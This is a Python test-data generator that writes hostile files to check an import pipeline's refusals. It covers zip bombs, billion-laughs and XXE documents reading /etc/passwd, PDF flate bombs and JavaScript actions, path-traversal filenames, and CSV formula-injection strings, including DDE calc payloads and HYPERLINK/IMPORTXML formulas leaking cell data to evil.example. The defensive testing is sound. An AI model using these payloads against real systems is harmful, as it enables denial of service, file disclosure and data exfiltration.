"""Hostile and odd files for every import path, generated deterministically (seeded).

`generate(folder, office, event_id)` writes the files under `folder` and returns one
`Case` per file (per letter, for attachments filed together): the route it takes
(ledger, participants, archive, rtc, attachment), its kind, and what the battery must
see: REFUSE, ACCEPT (valid but odd: cp1251, UTF-16, formula-like text) or EITHER (the
import may take it or refuse it, as long as it does so cleanly).

Kinds: broken containers (empty, random bytes, truncated, flipped bytes, a folder, a
pipe, a device under a file's name), zip bombs (a real one and one that lies about its
sizes), XML attacks inside the parts (billion laughs, external entities and DTDs),
gigantic cells, 100,000 rows, CSV in every encoding Excel writes, formula-like cells,
wrong types, index rows naming files outside their folder, and attachments with
hostile names and hostile PDF and DOCX content. At the end: readers that fail in every
way a parser can, for the sandbox's own tests.
"""

from __future__ import annotations

import io
import os
import random
import re
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from .hostile_builders import (
    CATALOG,
    DOCUMENT,
    FONT,
    MB,
    PAGE,
    PAGES,
    SHEET,
    csv_bytes,
    deflated,
    docx_rows,
    docx_table,
    encrypted_flag,
    encrypted_pdf,
    external_relationship,
    fill_docx,
    fill_xlsx,
    inline_row,
    part,
    patch_headers,
    pdf_bytes,
    raw_xlsx,
    rezip,
    sheet_xml,
    simple_pdf,
    stream,
    with_doctype,
    xlsx_bytes,
    zip_of,
)

ROUTES = ("ledger", "participants", "archive", "rtc", "attachment")
SEED = 8  # issue 8
REFUSE, ACCEPT, EITHER = "refuse", "accept", "either"

# Text a spreadsheet would take for a formula: imports keep it as text, exports must
# write it so that Excel never evaluates it.
FORMULAS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"!A0")',
    "=1+1",
    '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
    "'=quoted already",
)
LEDGER_HEADER = ("date", "type", "code", "amount", "description", "counterparty", "reference")
PARTICIPANT_HEADER = ("name", "administration", "title", "email", "gender", "attendance")
ARCHIVE_HEADER = ("reference", "date", "direction", "correspondent", "subject", "file")

LAUGHS = (
    b'<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(
        b'<!ENTITY lol%d "%s">' % (n, (b"&lol%d;" % (n - 1) if n > 1 else b"&lol;") * 10)
        for n in range(1, 10)
    )
    + b"]>"
)
DOCTYPES = {  # kind: (the DOCTYPE, what the text uses of it)
    "billion-laughs": (LAUGHS, b"&lol9;"),
    "xxe-file": (b'<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', b"&xxe;"),
    "xxe-http": (b'<!DOCTYPE r [<!ENTITY xxe SYSTEM "http://127.0.0.1:9/secret">]>', b"&xxe;"),
    "external-dtd": (b'<!DOCTYPE r SYSTEM "http://127.0.0.1:9/evil.dtd">', b""),
    "parameter-entity": (b'<!DOCTYPE r [<!ENTITY % p SYSTEM "http://127.0.0.1:9/p"> %p;]>', b""),
    "quadratic-blowup": (b'<!DOCTYPE r [<!ENTITY a "' + b"a" * 50_000 + b'">]>', b"&a;" * 1000),
}


@dataclass(frozen=True)
class Case:
    route: str
    kind: str
    path: Path  # the file given to the import: for the archive, its index
    expect: str = EITHER
    rows: int = 0  # accepted: the records the import adds
    texts: tuple[str, ...] = ()  # accepted: text that must be stored as it was written
    folder: Path | None = None  # archive: the folder its index names files in
    files: tuple[Path, ...] = ()  # attachment: the files of one letter


# --- the generator ---

Rows = Callable[..., list[tuple]]  # rows(tag, count, text=None): fresh, valid rows


class _Maker:
    def __init__(self, root: Path, seed: int) -> None:
        self.root = root
        self.rng = random.Random(seed)
        self.cases: list[Case] = []
        self.count = 0
        self.reference = 0  # archive references, unique over the whole battery
        self._cache: dict[str, bytes] = {}

    def write(self, route: str, kind: str, suffix: str, data: bytes | None) -> Path:
        self.count += 1
        folder = self.root / route
        folder.mkdir(parents=True, exist_ok=True)
        path = folder / f"{self.count:03d}-{kind}{suffix}"
        if data is not None:
            path.write_bytes(data)
        return path

    def add(self, route: str, kind: str, suffix: str, data: bytes | None, expect=EITHER, **more):  # noqa: ANN001, ANN201
        self.cases.append(Case(route, kind, self.write(route, kind, suffix, data), expect, **more))

    def add_all(self, route: str, suffix: str, kinds: list[tuple], **more) -> None:
        """(kind, data, expect) each."""
        for kind, data, expect in kinds:
            self.add(route, kind, suffix, data, expect, **more)

    def special(self, route: str, suffix: str, **more) -> None:
        """A folder, a pipe and a device under a file's name."""
        makers = {"folder": Path.mkdir, "dev-zero": lambda p: p.symlink_to("/dev/zero")}
        if hasattr(os, "mkfifo"):
            makers["pipe"] = os.mkfifo
        for kind, make in makers.items():
            path = self.write(route, kind, suffix, None)
            make(path)
            self.cases.append(Case(route, kind, path, REFUSE, **more))

    def cached(self, key: str, build: Callable[[], bytes]) -> bytes:
        """Bytes that take a while to build, built once for every route that uses them."""
        if key not in self._cache:
            self._cache[key] = build()
        return self._cache[key]

    def many_csv(self, count: int) -> bytes:
        """`count` rows after a header: refused for their number before any is checked."""
        line = b"2022-05-01,expense,2.1,1.00,row %d,,\r\n"
        return self.cached(f"csv{count}", lambda: b"".join(line % n for n in range(count)))

    def many_xlsx(self, dimension: str) -> bytes:
        row = b'<row r="%d"><c r="A%d" t="inlineStr"><is><t>x</t></is></c></row>'
        rows = [(row % (n, n)).decode() for n in range(1, 100_001)]
        return self.cached(f"xlsx{dimension}", lambda: raw_xlsx(sheet_xml(rows, dimension)))

    def giant_xlsx(self) -> bytes:
        rows = [inline_row(1, ("name", "date")), inline_row(2, ("z" * (10 * MB), "x"))]
        return self.cached("giant", lambda: raw_xlsx(sheet_xml(rows)))

    def bomb(self) -> bytes:
        """A zip whose one XML member unpacks to 201 MB of zeros (about 200 KB on disk)."""

        def build() -> bytes:
            member = zipfile.ZipInfo("xl/sharedStrings.xml")
            member.compress_type = zipfile.ZIP_DEFLATED
            buffer = io.BytesIO()
            with zipfile.ZipFile(buffer, "w", compresslevel=1) as archive:
                with archive.open(member, "w", force_zip64=True) as target:
                    for _ in range(201):
                        target.write(bytes(MB))
            return buffer.getvalue()

        return self.cached("bomb", build)

    # -- kinds the routes share --

    def broken(self, route: str, suffix: str, base: bytes, **more) -> None:
        """Damaged copies of a good file, and what is not that kind of file at all."""
        rng = self.rng
        kinds = [("empty", b"", REFUSE)]
        kinds += [(f"random-{size}", rng.randbytes(size), EITHER) for size in (7, 4096, 65536)]
        for fraction in (0.01, 0.1, 0.3, 0.5, 0.7, 0.9, 0.99):
            kinds.append((f"truncated-{fraction}", base[: int(len(base) * fraction)], EITHER))
        kinds.append(("minus-one-byte", base[:-1], EITHER))
        for number in range(4):
            data = bytearray(base)
            for _ in range(16):
                data[rng.randrange(len(data))] = rng.randrange(256)
            kinds.append((f"flipped-{number}", bytes(data), EITHER))
        middle = len(base) // 2
        zeroed = base[:middle] + bytes(min(512, len(base) - middle)) + base[middle + 512 :]
        kinds += [
            ("zeroed-middle", zeroed, EITHER),
            ("a-pdf-inside", simple_pdf(), REFUSE),
            ("a-png-inside", b"\x89PNG\r\n\x1a\n" + rng.randbytes(300), EITHER),
        ]
        self.add_all(route, suffix, kinds, **more)
        self.special(route, suffix, **more)

    def zips(self, route: str, suffix: str, base: bytes, main: str, **more) -> None:
        """Zip-level attacks and damage on an XLSX or DOCX, and XML attacks in its parts."""
        junk = {f"junk/{n}.bin": b"x" for n in range(2000)}
        kinds = [
            ("zip-bomb", self.bomb(), REFUSE),
            ("zip-bomb-declared", patch_headers(base, b"PK\x01\x02", 24, b"\0\0\0\xf0"), REFUSE),
            ("zip-lying-sizes", patch_headers(base, b"PK\x01\x02", 24, b"\x0a\0\0\0"), REFUSE),
            ("zip-of-text", zip_of({"readme.txt": b"not a spreadsheet"}), REFUSE),
            ("zip-in-zip", zip_of({"inner" + suffix: base}), REFUSE),
            ("zip-encrypted-flag", encrypted_flag(base), REFUSE),
            ("zip-unknown-method", patch_headers(base, b"PK\x01\x02", 10, b"\x63\0"), REFUSE),
            ("zip-2000-members", rezip(base, lambda _n, d: d, junk), EITHER),
            ("zip-missing-main-part", rezip(base, lambda n, d: None if n == main else d), REFUSE),
            (
                "zip-missing-content-types",
                rezip(base, part("[Content_Types].xml", lambda _: None)),
                EITHER,
            ),  # fmt: skip
        ]
        for kind, (doctype, use) in DOCTYPES.items():
            kinds.append((kind, rezip(base, part(main, lambda d, t=doctype, u=use: with_doctype(d, t, u))), REFUSE))  # fmt: skip
        types = part("[Content_Types].xml", lambda d: with_doctype(d, LAUGHS, b""))
        kinds += [
            ("billion-laughs-content-types", rezip(base, types), REFUSE),
            (
                "invalid-utf8-xml",
                rezip(base, part(main, lambda d: d.replace(b">", b">\xff\xfe", 3))),
                REFUSE,
            ),  # fmt: skip
            ("unclosed-xml", rezip(base, part(main, lambda d: d[: len(d) // 2])), REFUSE),
        ]
        self.add_all(route, suffix, kinds, **more)

    def csv_kinds(self, route: str, header: tuple, rows: Rows, **more) -> None:
        """Every encoding Excel writes (imported whole), and what no list should be."""
        encodings = {
            "utf-8": (",", "utf-8", b""),
            "utf-8-bom": (",", "utf-8-sig", b""),
            "cp1251-semicolon": (";", "cp1251", b""),
            "utf-16-bom-tab": ("\t", "utf-16", b""),
            "utf-16-le-bom": (",", "utf-16-le", b"\xff\xfe"),
            "utf-16-be-bom": (",", "utf-16-be", b"\xfe\xff"),
            "utf-16-le-no-bom": ("\t", "utf-16-le", b""),
            "utf-16-be-no-bom": (";", "utf-16-be", b""),
            "tab": ("\t", "utf-8", b""),
        }
        for name, (delimiter, encoding, bom) in encodings.items():
            text = f"{name} Кириллица ёЁ"
            data = bom + csv_bytes([header, *rows(f"enc-{name}", 3, text)], delimiter, encoding)
            self.add(route, f"csv-{name}", ".csv", data, ACCEPT, rows=3, texts=(text,), **more)
        for index, formula in enumerate(FORMULAS):
            data = csv_bytes([header, *rows(f"formula{index}", 2, formula)])
            self.add(route, f"csv-formula-{index}", ".csv", data, ACCEPT, rows=2, texts=(formula,), **more)  # fmt: skip
        head = csv_bytes([header])
        good = csv_bytes([header, *rows("plain", 3)])
        control = csv_bytes([header, *rows("ctl\x01\x1b[31m\u202e", 2)])
        wide = csv_bytes([header + tuple(f"c{n}" for n in range(2000))])
        self.add_all(
            route,
            ".csv",
            [
                ("csv-10mb-cell", head + b"x" * (10 * MB) + b",1\r\n", REFUSE),
                ("csv-40k-cell", head + b"y" * 40_000 + b",1\r\n", REFUSE),
                ("csv-100001-rows", head + self.many_csv(100_001), REFUSE),
                ("csv-3m-rows", head + self.many_csv(300_000) * 10, REFUSE),
                ("csv-nul", good.replace(b"\r\n", b"\x00\r\n", 2), REFUSE),
                ("csv-empty", b"", REFUSE),
                ("csv-bom-only", b"\xef\xbb\xbf", REFUSE),
                ("csv-blank-lines", b" \r\n\t\r\n,,,\r\n", REFUSE),
                ("csv-header-only", head, REFUSE),
                ("csv-no-header", csv_bytes(rows("nohead", 3)), REFUSE),
                ("csv-2000-columns", wide, REFUSE),
                ("csv-unclosed-quote", good + b'"never closed,' * 50, EITHER),
                ("csv-cr-only", good.replace(b"\r\n", b"\r"), EITHER),
                ("csv-undefined-cp1251-byte", good + b"\x98\xff\xfe", EITHER),
                ("csv-random", self.rng.randbytes(5000), EITHER),
                ("csv-pdf-inside", simple_pdf(), REFUSE),
                ("csv-control-characters", control, EITHER),
            ],
            **more,
        )
        self.special(route, ".csv", **more)

    def xlsx_kinds(self, route: str, header: tuple, rows: Rows, **more) -> None:
        base = xlsx_bytes([header, *rows("xlsx", 3)])
        self.add(route, "xlsx-good", ".xlsx", base, ACCEPT, rows=3, **more)
        for index, formula in enumerate(FORMULAS[:4]):
            data = xlsx_bytes([header, *rows(f"xformula{index}", 1, formula)])
            self.add(route, f"xlsx-formula-text-{index}", ".xlsx", data, ACCEPT, rows=1, texts=(formula,), **more)  # fmt: skip
        self.broken(route, ".xlsx", base, **more)
        self.zips(route, ".xlsx", base, SHEET, **more)
        body = [inline_row(1, header), inline_row(2, rows("big", 1)[0])]
        far = '<row r="3"><c r="XFD3" t="inlineStr"><is><t>far</t></is></c></row>'
        deep = '<row r="3">' + "<x>" * 50_000 + "</x>" * 50_000 + "</row>"
        formulas = (
            '<row r="3"><c r="A3"><f>HYPERLINK("http://evil.example","x")</f></c>'
            '<c r="B3" t="str"><f>cmd|\' /C calc\'!A0</f><v>=1+1</v></c></row>'
        )
        odd = (
            '<row r="3"><c r="A3"><v>not-a-number</v></c><c r="B3" t="b"><v>7</v></c>'
            '<c r="C3" t="e"><v>#N/A</v></c><c r="D3"><v>1e400</v></c><c r="E3"><v>nan</v></c></row>'
        )
        no_sheet = part(
            "xl/workbook.xml", lambda d: re.sub(rb"<sheets>.*</sheets>", b"<sheets/>", d)
        )
        rels = "xl/_rels/workbook.xml.rels"
        linked = xlsx_bytes([header, *rows("external", 1)])
        self.add_all(
            route,
            ".xlsx",
            [
                ("xlsx-10mb-cell", self.giant_xlsx(), REFUSE),
                ("xlsx-100k-rows", self.many_xlsx("A1:A100000"), REFUSE),
                ("xlsx-100k-rows-no-dimension", self.many_xlsx(""), REFUSE),
                ("xlsx-dimension-lies", raw_xlsx(sheet_xml(body, "A1:XFD1048576")), EITHER),
                ("xlsx-16384-columns", raw_xlsx(sheet_xml([*body, far])), EITHER),
                ("xlsx-deep-nesting", raw_xlsx(sheet_xml([*body, deep])), EITHER),
                ("xlsx-real-formulas", raw_xlsx(sheet_xml([*body, formulas])), EITHER),
                (
                    "xlsx-shared-string-out-of-range",
                    raw_xlsx(sheet_xml([*body, '<row r="3"><c r="A3" t="s"><v>99</v></c></row>'])),
                    EITHER,
                ),  # fmt: skip
                ("xlsx-wrong-types", raw_xlsx(sheet_xml([*body, odd])), EITHER),
                ("xlsx-csv-inside", csv_bytes([header, *rows("c", 2)]), REFUSE),
                ("xlsx-header-only", xlsx_bytes([header]), REFUSE),
                ("xlsx-empty-sheet", xlsx_bytes([]), REFUSE),
                ("xlsx-no-sheet", rezip(raw_xlsx(sheet_xml(body)), no_sheet), REFUSE),
                (
                    "xlsx-external-link",
                    external_relationship(
                        linked, rels, "externalLink", "http://127.0.0.1:9/x.xlsx"
                    ),
                    EITHER,
                ),  # fmt: skip
            ],
            **more,
        )
        second = xlsx_bytes([header, *rows("second", 3)], sheets=2)
        self.add(route, "xlsx-second-sheet-ignored", ".xlsx", second, ACCEPT, rows=3, **more)

    def wrong_rows(self, route: str, header: tuple, wrong: list[tuple], **more) -> None:
        """Rows a person might type wrongly: each refused, naming its row and column."""
        for index, row in enumerate(wrong):
            self.add(route, f"wrong-type-{index}", ".csv", csv_bytes([header, row]), REFUSE, **more)
        self.add(route, "wrong-types-xlsx", ".xlsx", xlsx_bytes([header, *wrong]), REFUSE, **more)

    # -- the routes --

    def ledger(self) -> None:
        def rows(tag: str, count: int, text: str | None = None) -> list[tuple]:
            amounts = [f"{1 + n % 90}.{n % 100:02d}" for n in range(count)]
            description = [text or f"{tag} paper {n}" for n in range(count)]
            return [
                (f"2022-05-{1 + n % 28:02d}", "expense", "2.1", amounts[n], description[n], "", "")
                for n in range(count)
            ]

        self.csv_kinds("ledger", LEDGER_HEADER, rows)
        self.xlsx_kinds("ledger", LEDGER_HEADER, rows)
        one = ("2022-05-01", "expense", "2.1")
        wrong = [
            ("2022-02-30", *one[1:], "1.00", "", "", ""),
            *((*one, amount, "", "", "") for amount in ("1e309", "NaN", "-Infinity", "9" * 5000)),
            ("31.12.2022", "income", "contribution", "10.00", "", "Atlantis", ""),
            ("2022-05-01", "=cmd", "2.1", "1.00", "", "", ""),
            ("99999-01-01", "expense", "9.9", "0", "", "", ""),
        ]
        self.wrong_rows("ledger", LEDGER_HEADER, wrong)
        long_voucher = csv_bytes([LEDGER_HEADER, (*one, "1.00", "", "", "V" * 500)])
        self.add("ledger", "voucher-too-long", ".csv", long_voucher)

    def participants(self) -> None:
        def rows(tag: str, count: int, text: str | None = None) -> list[tuple]:
            mail = re.sub(r"[^a-z0-9-]", "", tag.lower()) or "x"
            return [
                (
                    text if text is not None and n == 0 else f"{tag} Person {n}",
                    "Republic of Moldova" if n % 2 else "MD",
                    "Officer",
                    f"{mail}.{n}@example.org",
                    "female" if n % 2 else "m",
                    "registered",
                )
                for n in range(count)
            ]

        self.csv_kinds("participants", PARTICIPANT_HEADER, rows)
        self.xlsx_kinds("participants", PARTICIPANT_HEADER, rows)
        wrong = [
            ("", "MD", "", "", "", ""),
            ("Name", "MD", "", "not an e-mail", "", ""),
            ("Name2", "MD", "", "", "robot", ""),
            ("Name3", "MD", "", "", "", "maybe"),
            ("N" * 300, "MD", "", "", "", ""),
        ]
        self.wrong_rows("participants", PARTICIPANT_HEADER, wrong)

    def archive(self) -> None:
        folder = self.root / "archive-files"
        folder.mkdir(parents=True, exist_ok=True)
        # Scans in a format the text reader leaves alone: the archive's files are not what
        # this route tests (the attachment route reads hostile PDFs and DOCX).
        for number in range(4):
            (folder / f"scan-{number}.tif").write_bytes(b"II*\x00" + bytes([number]) * 64)
        outside = self.root / "outside-secret.tif"
        outside.write_bytes(b"II*\x00secret")
        (folder / "scan\x01\x1b.tif").write_bytes(b"II*\x00ctl")
        (folder / "link-out.tif").symlink_to(outside)
        (folder / "subfolder").mkdir()
        if hasattr(os, "mkfifo"):
            os.mkfifo(folder / "pipe.tif")
        more = {"folder": folder}

        def row(subject: str, name: str, day: str = "2015-03-01") -> tuple:
            self.reference += 1
            return (f"IN-2015/{self.reference}", day, "in", "", subject, name)

        def rows(tag: str, count: int, text: str | None = None) -> list[tuple]:
            return [row(text or f"{tag} letter {n}", f"scan-{n % 4}.tif") for n in range(count)]

        self.csv_kinds("archive", ARCHIVE_HEADER, rows, **more)
        self.xlsx_kinds("archive", ARCHIVE_HEADER, rows, **more)
        names = {
            "traversal": ("../outside-secret.tif", REFUSE),
            "traversal-deep": ("../../../../../../etc/passwd", REFUSE),
            "absolute": ("/etc/passwd", REFUSE),
            "absolute-outside": (str(outside), REFUSE),
            "backslashes": ("..\\..\\windows\\win.ini", REFUSE),
            "dot": (".", REFUSE),
            "dotdot": ("..", REFUSE),
            "sub-and-back-out": ("scan-0.tif/../../outside-secret.tif", REFUSE),
            "too-long": ("a" * 5000 + ".tif", REFUSE),
            "control-characters": ("scan\x01\x1b.tif", ACCEPT),
            "absolute-inside": (str(folder / "scan-1.tif"), ACCEPT),
            "missing": ("nowhere.tif", REFUSE),
            "url": ("file:///etc/passwd", REFUSE),
            "link-out": ("link-out.tif", REFUSE),
            "folder": ("subfolder", REFUSE),
            "pipe": ("pipe.tif", REFUSE),
        }
        for kind, (name, expect) in names.items():
            index = csv_bytes([ARCHIVE_HEADER, row(f"file {kind}", name)])
            self.add("archive", f"file-{kind}", ".csv", index, expect, rows=1, **more)
        wrong = [
            ("IN-2015/" + "9" * 30, "2015-04-01", "in", "", "huge number", "scan-0.tif"),
            ("IN-2015/" + "9" * 5000, "2015-04-01", "in", "", "absurd number", "scan-0.tif"),
            ("IN-2016/1", "2015-04-01", "in", "", "wrong year", "scan-0.tif"),
            ("IN-2015/1x", "2015-04-01", "sideways", "", "", "scan-0.tif"),
            ("2015/3", "2015-13-01", "out", "", "s" * 600, "scan-0.tif"),
        ]
        self.wrong_rows("archive", ARCHIVE_HEADER, wrong, **more)

    def rtc(self, office) -> None:  # noqa: ANN001
        from rocb_desk.domain.fiscal import FinancialYear
        from rocb_desk.exports import write
        from rocb_desk.services.rtc import reports
        from rocb_desk.services.rtc.template import blank_template

        lines = reports.reports_of_year(office, FinancialYear(2020), "en")
        rtc_id = next(line.rtc_id for line in lines if line.code == "BAKU")
        blanks = self.root / "rtc-blanks"
        blanks.mkdir(parents=True, exist_ok=True)
        for suffix, fill, main in ((".xlsx", fill_xlsx, SHEET), (".docx", fill_docx, DOCUMENT)):
            template = blank_template(office, FinancialYear(1990), "en", rtc_id)
            blank = write(template, blanks / f"blank{suffix}")

            # Each accepted copy reports a year of its own: a new report, not a second one.
            def filled(year: int, history: str = "Since 2003.", blank=blank, fill=fill) -> bytes:  # noqa: ANN001
                path = blanks / f"{year}{blank.suffix}"
                path.write_bytes(blank.read_bytes())
                fill(path, history, f"{year}/{year + 1}")
                return path.read_bytes()

            first = 1990 if suffix == ".xlsx" else 2000
            self.add("rtc", "blank", suffix, blank.read_bytes(), REFUSE)
            self.add("rtc", "good", suffix, filled(first), ACCEPT, rows=1)
            for index, formula in enumerate(FORMULAS[:3]):
                data = filled(first + 1 + index, formula)
                self.add("rtc", f"formula-history-{index}", suffix, data, ACCEPT, rows=1, texts=(formula,))  # fmt: skip
            base = filled(1980)  # damaged copies: never accepted, one year for all
            self.broken("rtc", suffix, base)
            self.zips("rtc", suffix, base, main)
        self.add("rtc", "wrong-suffix", ".csv", b"a,b\n", REFUSE)
        self.add("rtc", "xlsx-100k-rows", ".xlsx", self.many_xlsx("A1:A100000"), REFUSE)
        self.add("rtc", "xlsx-10mb-cell", ".xlsx", self.giant_xlsx(), REFUSE)
        self.add("rtc", "docx-10mb-cell", ".docx", docx_table([("z" * (10 * MB),)]), REFUSE)
        self.add("rtc", "docx-10000-rows", ".docx", docx_rows(10_000), REFUSE)

    def attachments(self) -> None:
        route = "attachment"
        folder = self.root / route / "named"
        folder.mkdir(parents=True, exist_ok=True)
        names = [
            *(f"control-{code:02x}-{chr(code)}.txt" for code in range(1, 32)),
            "delete-\x7f.txt",
            "..\\..\\Windows\\win.ini.txt",
            "..%2f..%2fetc%2fpasswd.txt",
            "\u202etxt.exe.pdf",
            "zero\u200bwidth.txt",
            "a" * 250 + ".txt",
            "д" * 120 + ".txt",
            "-rf --no-preserve-root.txt",
            " spaces around .txt",
            "CON.txt",
            "nul",
            ".hidden.txt",
            'a:b*c?d<e>f|g".txt',
            "emoji \U0001f4ce.txt",
            "line\nbreak.txt",
        ]
        paths = [folder / name for name in names]
        for index, path in enumerate(paths):
            path.write_bytes(b"attachment %d" % index)
        for start in range(0, len(paths), 8):  # eight to a letter: one reading of their text
            batch = tuple(paths[start : start + 8])
            self.cases.append(Case(route, f"hostile-names-{start}", batch[0], ACCEPT, len(batch), files=batch))  # fmt: skip
        (self.root / route / "a" / "b").mkdir(parents=True)
        (self.root / route / "secret.txt").write_text("reached through ../", encoding="utf-8")
        dotdot = self.root / route / "a" / "b" / ".." / ".." / "secret.txt"
        self.cases.append(Case(route, "dotdot-path", dotdot, ACCEPT, 1, files=(dotdot,)))
        self.count += len(paths) + 1

        def one(kind: str, suffix: str, data: bytes | None, expect: str = ACCEPT) -> None:
            path = self.write(route, kind, suffix, data)
            self.cases.append(Case(route, kind, path, expect, 1, files=(path,)))

        pdf = simple_pdf()
        flate = b"/Filter /FlateDecode "
        operators = deflated(60 * MB, b"0 0 m 1 1 l S " * 4096)
        tree = b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 /Parent 2 0 R >>"
        script = b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>"  # fmt: skip
        junk = b"<< /Filter /Nonsense /V 99 >>"
        kids = b" ".join(b"%d 0 R" % (3 + n) for n in range(300))
        page = PAGE.replace(b"4 0 R", b"303 0 R").replace(b"5 0 R", b"304 0 R")
        many = [CATALOG, b"<< /Type /Pages /Kids [%s] /Count 300 >>" % kids, *[page] * 300]
        docx_base = docx_table([("Country", "Participants"), ("Azerbaijan", "12")])
        for kind, suffix, data in [
            ("pdf-good", ".pdf", pdf),
            *((f"pdf-truncated-{f}", ".pdf", pdf[: int(len(pdf) * f)]) for f in (0.2, 0.5, 0.8)),
            ("pdf-broken-xref", ".pdf", pdf.replace(b"0000000", b"9999999")),
            (
                "pdf-no-xref",
                ".pdf",
                pdf_bytes([CATALOG, PAGES, PAGE, stream(b"BT ET"), FONT], xref=False),
            ),  # fmt: skip
            ("pdf-encrypted-unknown-password", ".pdf", encrypted_pdf(pdf, "secret")),
            ("pdf-encrypted-empty-password", ".pdf", encrypted_pdf(pdf, "")),
            (
                "pdf-encrypt-dictionary-junk",
                ".pdf",
                pdf_bytes([CATALOG, PAGES, PAGE, stream(b"BT ET"), FONT, junk], b"/Encrypt 6 0 R "),
            ),  # fmt: skip
            ("pdf-flate-bomb", ".pdf", simple_pdf(deflated(100 * MB), flate)),
            ("pdf-60mb-of-operators", ".pdf", simple_pdf(operators, flate)),
            ("pdf-length-lies", ".pdf", pdf.replace(b"/Length ", b"/Length 999999999", 1)),
            ("pdf-nested-arrays", ".pdf", simple_pdf(b"[" * 100_000 + b"]" * 100_000)),
            (
                "pdf-page-tree-loop",
                ".pdf",
                pdf_bytes([CATALOG, tree, PAGE, stream(b"BT ET"), FONT]),
            ),  # fmt: skip
            ("pdf-javascript", ".pdf", pdf_bytes([script, PAGES, PAGE, stream(b"BT ET"), FONT])),
            (
                "pdf-300-pages",
                ".pdf",
                pdf_bytes([*many, stream(b"BT /F1 9 Tf (page) Tj ET"), FONT]),
            ),  # fmt: skip
            ("pdf-random", ".pdf", self.rng.randbytes(20_000)),
            ("pdf-empty", ".pdf", b""),
            ("docx-good", ".docx", docx_base),
            ("docx-zip-bomb", ".docx", self.bomb()),
            *(
                (
                    f"docx-{kind}",
                    ".docx",
                    rezip(docx_base, part(DOCUMENT, lambda d, t=t, u=u: with_doctype(d, t, u))),
                )
                for kind, (t, u) in list(DOCTYPES.items())[:3]
            ),  # fmt: skip
            ("docx-truncated", ".docx", docx_base[: len(docx_base) // 2]),
            ("docx-10mb-paragraph", ".docx", docx_table([("w " * (5 * MB),)])),
            (
                "docx-external-image",
                ".docx",
                external_relationship(
                    docx_base, "word/_rels/document.xml.rels", "image", "http://127.0.0.1:9/x.png"
                ),
            ),  # fmt: skip
            ("txt-cp1251", ".txt", "Письмо о наращивании потенциала".encode("cp1251")),
            ("txt-utf16", ".txt", "Письмо".encode("utf-16")),
            ("txt-10mb-line", ".txt", b"x" * (10 * MB)),
            ("txt-binary", ".txt", self.rng.randbytes(50_000)),
            ("unknown-kind", ".exe", b"MZ" + self.rng.randbytes(1000)),
        ]:
            one(kind, suffix, data)
        one("missing", ".pdf", None, REFUSE)
        start = len(self.cases)
        self.special(route, ".pdf")
        self.cases[start:] = [Case(c.route, c.kind, c.path, REFUSE, files=(c.path,)) for c in self.cases[start:]]  # fmt: skip
        nul = Path(str(self.root / route / "nul-\x00-in-name.pdf"))
        self.cases.append(Case(route, "nul-in-name", nul, REFUSE, files=(nul,)))
        self.count += 1
        huge = self.write(route, "larger-than-allowed", ".pdf", None)
        with huge.open("wb") as sparse:
            sparse.truncate(101 * MB)  # sparse: takes no room, refused by its size
        self.cases.append(Case(route, "larger-than-allowed", huge, REFUSE, files=(huge,)))


def generate(folder: Path, office, event_id: int, seed: int = SEED) -> list[Case]:  # noqa: ANN001
    """Every hostile file of the battery, written under `folder`. The office gives the
    RTC template its codes; the participants go to the event `event_id`."""
    del event_id  # the battery imports into it; the files do not name it
    maker = _Maker(folder, seed)
    maker.ledger()
    maker.participants()
    maker.archive()
    maker.rtc(office)
    maker.attachments()
    return maker.cases


def file_count(cases: list[Case]) -> int:
    return sum(max(1, len(case.files)) for case in cases)
